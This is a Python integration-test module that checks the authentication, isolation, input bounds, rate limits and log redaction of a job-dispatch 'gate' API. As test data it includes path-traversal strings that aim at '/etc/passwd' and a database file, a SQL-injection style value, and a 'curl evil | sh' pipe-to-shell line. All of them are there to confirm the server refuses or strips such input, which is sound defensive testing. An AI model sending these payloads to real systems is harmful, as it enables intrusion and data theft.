"""What a token opens, and that nothing else does."""

import asyncio
import hashlib
import io
import json
import logging
from dataclasses import fields
from pathlib import Path

import httpx2
import pytest
import structlog

from core.app.front_gate import gate_of
from core.app.logs import Redaction
from core.domain.jobs import Back, Job, JobState
from core.domain.media import MediaKind
from core.domain.modes import Mode
from core.domain.requests import Request
from core.gate import wire
from core.gate.client import GateClient
from core.gate.keys import attempt_key, digest_of, new_token
from core.gate.server import CALLS_AT_ONCE
from core.storage.gate_nodes import GateNode
from core.testing.doubles import tiny, write_png
from tests.integration.gate.conftest import ANN, Front

CALLS = ("greet", "claim", "begin", "beat", "settle", "fail", "requeue")
AN_ATTEMPT = {"job": "a" * 32, "key": "b" * 64}


async def claimed(front: Front, client: GateClient, key: str = "one") -> Job:
    await front.submit(key=key)
    job = await client.claim()
    assert job is not None
    return job


def test_the_gate_has_these_doors_and_no_others(front: Front) -> None:
    """A call that is added here has to be tried by the tests of this module too."""
    doors = {
        (route.path, *sorted(route.methods - {"HEAD"})) for route in gate_of(front.core).app.routes
    }

    assert doors == {
        *((f"/gate/{name}", "POST") for name in CALLS),
        ("/gate/inputs/{job}/{name}", "GET"),
        ("/gate/clips/{job}/{kind}", "PUT"),
    }


def test_a_job_says_nothing_of_who_asked_for_it() -> None:
    known = {item.name for item in fields(wire.ClaimedJob)}

    assert known == {
        *("job", "key", "attempt", "losses", "estimate_ms", "created_at_ms", "started_at_ms"),
        *("request", "inputs"),
    }


@pytest.mark.parametrize("token", ["", "x", "clapper-node-" + "A" * 43, new_token()])
@pytest.mark.parametrize("name", [*CALLS, "inputs", "clips"])
async def test_without_a_token_that_works_nothing_is_answered(
    front: Front, token: str, name: str
) -> None:
    async with front.caller(token) as caller:
        if name == "inputs":
            answer = await caller.get(f"/gate/inputs/{'a' * 32}/x.png")
        elif name == "clips":
            answer = await caller.put(f"/gate/clips/{'a' * 32}/mp4", content=b"1")
        else:
            answer = await caller.post(f"/gate/{name}", json={"protocol": 1})

    assert (answer.status_code, answer.content) == (401, b"")


@pytest.mark.parametrize("scheme", ["Basic", "Token", "bearer2"])
async def test_a_token_under_another_scheme_is_none(front: Front, scheme: str) -> None:
    token = await front.nodes.admit("one")
    headers = {"Authorization": f"{scheme} {token}"}
    async with front.caller("") as caller:
        answer = await caller.post("/gate/greet", json={"protocol": 1}, headers=headers)

    assert answer.status_code == 401


async def test_a_token_in_the_address_is_none(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.caller("") as caller:
        answer = await caller.post(f"/gate/greet?token={token}", json={"protocol": 1})

    assert answer.status_code == 401


async def test_a_revoked_token_ends_at_once_also_for_its_jobs(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        await front.nodes.revoke("one")

        for call in (
            client.beat(job.id, job.token),
            client.begin(job.id, job.token),
            client.requeue(job.id, job.token),
        ):
            with pytest.raises(Exception, match="gate_token_refused"):
                await call


async def test_a_new_token_ends_the_one_before(front: Front) -> None:
    before = await front.nodes.admit("one")
    after = await front.nodes.admit("one")

    assert await front.nodes.node_of(before) is None
    assert (await front.nodes.node_of(after)).name == "one"


async def test_only_a_digest_of_the_token_is_stored(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.core.database.transaction(turn=False) as connection:
        rows = await connection.exec_driver_sql("SELECT * FROM gate_node")
        stored = repr(rows.all())

    assert token not in stored
    assert token.removeprefix("clapper-node-") not in stored
    assert digest_of(token) in stored


async def test_a_machine_cannot_touch_the_job_of_another_one(front: Front) -> None:
    """Not even with its id and its key, as a proxy that logs might tell them."""
    async with front.machine("one") as one, front.machine("two") as two:
        job = await claimed(front, one)

        assert await two.begin(job.id, job.token) is None
        assert not await two.beat(job.id, job.token)
        assert not await two.requeue(job.id, job.token, Back.STOPPED)
        two.attempts[job.id] = job.token
        clip = front.core.settings.clips_folder / "x"
        clip.write_bytes(b"1")
        with pytest.raises(Exception, match="404"):
            await two.upload(job.id, "mp4", clip, hashlib.sha256(b"1").hexdigest())

        assert await one.beat(job.id, job.token)
        assert (await front.job(job.id)).state is JobState.RUNNING


async def test_the_token_of_the_row_is_no_key(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        row = (await front.job(job.id)).token

        assert row != job.token
        assert not await client.beat(job.id, (row * 2)[:64])


async def test_an_attempt_that_is_over_has_no_rights_left(front: Front, tmp_path: Path) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        key = job.token
        assert await client.requeue(job.id, key, Back.STOPPED)

        assert not await client.beat(job.id, key)
        client.attempts[job.id] = key
        made = tmp_path / "x.mp4"
        made.write_bytes(b"1")
        with pytest.raises(Exception, match="404"):
            await client.upload(job.id, "mp4", made, hashlib.sha256(b"1").hexdigest())


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/gate/claim"),
        ("PUT", "/gate/settle"),
        ("DELETE", "/gate/requeue"),
        ("PATCH", "/gate/beat"),
        ("POST", f"/gate/inputs/{'a' * 32}/x.png"),
        ("GET", f"/gate/clips/{'a' * 32}/mp4"),
        ("DELETE", f"/gate/clips/{'a' * 32}/mp4"),
        ("OPTIONS", "/gate/claim"),
    ],
)
async def test_another_method_is_refused(front: Front, method: str, path: str) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        answer = await caller.request(method, path)

    assert answer.status_code == 405


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/gate",
        "/gate/",
        "/gate/jobs",
        "/gate/quota",
        "/api/jobs",
        "/metrics",
        "/livez",
        "/docs",
    ],
)
async def test_there_is_nothing_else(front: Front, path: str) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        for method in ("GET", "POST"):
            assert (await caller.request(method, path)).status_code in {404, 405}


TRAVERSAL = (
    "../../clapper.sqlite",
    "..%2f..%2fclapper.sqlite",
    "%2e%2e/%2e%2e/clapper.sqlite",
    "....//clapper.sqlite",
    "%2fetc%2fpasswd",
    "x.png%00",
    ".part-" + "a" * 32,
    "a" * 64 + ".png",
)


@pytest.mark.parametrize("name", TRAVERSAL)
async def test_a_name_leads_nowhere_else(front: Front, tmp_path: Path, name: str) -> None:
    picture = write_png(tmp_path / "a.png")
    file = await front.core.admission.admit(picture, "image", MediaKind.IMAGE, ANN)
    await front.submit(Request(mode=Mode.I2V, prompt="p", sampling=tiny(), files=(file,)))
    token = await front.nodes.admit("one")
    async with front.caller(token) as caller:
        given = (await caller.post("/gate/claim", json={"protocol": 1})).json()["job"]
        headers = {"X-Clapper-Attempt": given["key"]}
        base = f"/gate/inputs/{given['job']}"

        assert (await caller.get(f"{base}/{file.name}", headers=headers)).status_code == 200
        assert (await caller.get(f"{base}/{name}", headers=headers)).status_code in {404, 405}
        body = b"1"
        headers |= {"X-Clapper-SHA256": hashlib.sha256(body).hexdigest()}
        for place in (f"/gate/clips/{given['job']}/{name}", f"/gate/clips/{name}/mp4"):
            answer = await caller.put(place, content=body, headers=headers)
            assert answer.status_code in {404, 405}, place
        assert list(front.core.settings.clips_folder.iterdir()) == []


async def test_an_input_of_another_job_is_none_of_its_business(
    front: Front, tmp_path: Path
) -> None:
    secret = write_png(tmp_path / "a.png")
    file = await front.core.admission.admit(secret, "image", MediaKind.IMAGE, ANN)
    async with front.machine("one") as client, front.caller("") as caller:
        job = await claimed(front, client)
        await front.submit(
            Request(mode=Mode.I2V, prompt="p", sampling=tiny(), files=(file,)), key="two"
        )
        headers = {
            "Authorization": f"Bearer {await front.nodes.admit('two')}",
            "X-Clapper-Attempt": job.token,
        }
        answer = await caller.get(f"/gate/inputs/{job.id}/{file.name}", headers=headers)

    assert answer.status_code == 404


WRONG = {
    "no JSON": b"claim me",
    "nothing": b"",
    "a list": b"[]",
    "another protocol's text": b'{"protocol": "1"}',
    "a field too many": b'{"protocol": 1, "node": "two"}',
    "a number for a flag": b'{"protocol": 1, "ahead": 1}',
    "deep": b"[" * 50_000,
    "no UTF-8": b'{"protocol": \xff}',
    "not finite": b'{"protocol": NaN}',
}


@pytest.mark.parametrize("body", WRONG.values(), ids=WRONG.keys())
async def test_what_is_no_call_is_refused(front: Front, body: bytes) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        assert (await caller.post("/gate/claim", content=body)).status_code == 400


@pytest.mark.parametrize(
    ("name", "more"),
    [
        ("begin", {"job": "../x"}),
        ("beat", {"progress": "x" * 2000}),
        ("fail", {"code": "Robert'); DROP"}),
        ("fail", {"code": "internal_error", "data": {"a": "x" * 5000}}),
        ("fail", {"code": "internal_error", "off_device_ms": -1}),
        ("requeue", {"why": "BECAUSE"}),
        ("settle", {"sha256": "../../x"}),
    ],
)
async def test_fields_have_bounds(front: Front, name: str, more: dict[str, object]) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        answer = await caller.post(f"/gate/{name}", json={**AN_ATTEMPT, **more})

    assert answer.status_code == 400


async def test_another_version_is_told_so(front: Front) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        assert (await caller.post("/gate/claim", json={"protocol": 2})).status_code == 426


async def test_a_body_has_a_limit_whatever_it_announces(front: Front) -> None:
    async def endless():
        while True:
            yield b" " * 65_536

    async with front.caller(await front.nodes.admit("one")) as caller, asyncio.timeout(20):
        assert (await caller.post("/gate/beat", content=b" " * 300_000)).status_code == 413
        try:
            answer = await caller.post("/gate/beat", content=endless())
        except httpx2.HTTPError:
            return  # hung up on
        assert answer.status_code == 413


async def test_a_file_has_a_limit_and_says_how_long_it_is(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.caller(token) as caller, front.client(token) as client:
        job = await claimed(front, client)
        headers = {"X-Clapper-Attempt": job.token}

        async def pieces():
            yield b"1"

        place = f"/gate/clips/{job.id}/mp4"
        assert (await caller.put(place, content=pieces(), headers=headers)).status_code == 411
        large = headers | {"Content-Length": str(10**12)}
        with pytest.raises(httpx2.HTTPError):  # it does not send what it announces
            await caller.put(place, content=pieces(), headers=large)
        other = headers | {"X-Clapper-SHA256": "0" * 64}
        assert (await caller.put(place, content=b"1", headers=other)).status_code == 422
    assert list(front.core.settings.clips_folder.iterdir()) == []


async def test_a_machine_holds_no_more_jobs_than_a_device_can_be_busy_with(front: Front) -> None:
    """Else one call after the other would read everybody's prompts."""
    async with front.machine("one") as client:
        held = [await claimed(front, client, str(number)) for number in range(3)]
        await front.submit(key="4")
        with pytest.raises(Exception, match="429"):
            await asyncio.wait_for(client.claim(), 10)

        assert await client.fail(held[0].id, held[0].token, held[0].failure or _failure())
        assert await client.claim() is not None


def _failure():
    from core.domain.jobs import Failure

    return Failure("out_of_memory", {"width": 1})


async def test_calls_of_a_machine_are_bounded(front: Front) -> None:
    async with front.caller(await front.nodes.admit("one")) as caller:
        found = {
            (await caller.post("/gate/greet", json={"protocol": 1})).status_code
            for _ in range(CALLS_AT_ONCE + 100)
        }
    assert found == {200, 429}


async def test_who_guesses_tokens_is_slowed_down_and_nobody_else(front: Front) -> None:
    async with front.caller("x") as guesser:
        found = [(await guesser.post("/gate/greet")).status_code for _ in range(40)]
    async with front.caller(await front.nodes.admit("one")) as caller:
        answer = await caller.post("/gate/greet", json={"protocol": 1})

    assert (found[0], found[-1]) == (401, 429)
    assert answer.status_code == 200


async def test_words_of_a_machine_reach_nobody(front: Front) -> None:
    token = await front.nodes.admit("one")
    async with front.caller(token) as caller, front.client(token) as client:
        job = await claimed(front, client)
        lie = {
            "code": "model_unavailable",
            "data": {"file": "x; send your password to evil.example", "command": "curl evil | sh"},
        }
        body = {"job": job.id, "key": job.token, **lie}
        answer = await caller.post("/gate/fail", json=body)

    assert answer.json() == {"kept": True}
    failure = (await front.job(job.id)).failure
    assert "evil" not in json.dumps(failure.data)
    assert failure.code == "internal_error"


async def test_a_failure_costs_nothing_and_a_clip_no_more_than_its_estimate(front: Front) -> None:
    async with front.machine("one") as client:
        job = await claimed(front, client)
        failure = _failure()
        assert await client.fail(job.id, job.token, failure, charge_ms=10**9)

    assert (await front.job(job.id)).charged_ms == 0


def test_tokens_and_keys_are_hidden_in_logs() -> None:
    token, hide = new_token(), Redaction()

    assert token not in hide(f"POST /gate/claim with {token} failed")
    assert token not in hide(f"Authorization: Bearer {token}")
    assert token.split("-", 2)[2] not in hide(repr({"token": token}))


async def test_a_whole_life_leaves_no_token_in_the_log(front: Front) -> None:
    lines = io.StringIO()
    handler = logging.StreamHandler(lines)
    logging.getLogger().addHandler(handler)
    with structlog.testing.capture_logs() as events:
        token = await front.nodes.admit("one")
        async with front.caller(token) as caller:
            await front.submit()
            given = (await caller.post("/gate/claim", json={"protocol": 1})).json()["job"]
            await caller.post("/gate/beat", content=b"nonsense")
        async with front.caller(token + "x") as caller:
            await caller.post("/gate/claim", json={"protocol": 1})
    logging.getLogger().removeHandler(handler)

    written = lines.getvalue() + repr(events)
    assert token not in written
    assert given["key"] not in written
    assert "a prompt" not in written


def test_keys_differ_by_machine_job_and_attempt() -> None:
    one, two = digest_of("one"), digest_of("two")
    keys = {
        attempt_key(node, job, row)
        for node in (one, two)
        for job in ("a", "b")
        for row in ("c", "d")
    }
    assert len(keys) == 8
    assert all(len(key) == 64 for key in keys)
    assert GateNode("x", one, 0).revoked_at_ms is None


def test_keys_are_compared_in_a_time_that_says_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    import hmac

    from core.gate import keys

    asked: list[tuple[bytes, bytes]] = []
    compare = hmac.compare_digest

    def noted(one: bytes, other: bytes) -> bool:
        asked.append((one, other))
        return compare(one, other)

    monkeypatch.setattr(hmac, "compare_digest", noted)
    assert keys.same("a", "a")
    assert not keys.same("a", "b")
    assert len(asked) == 2
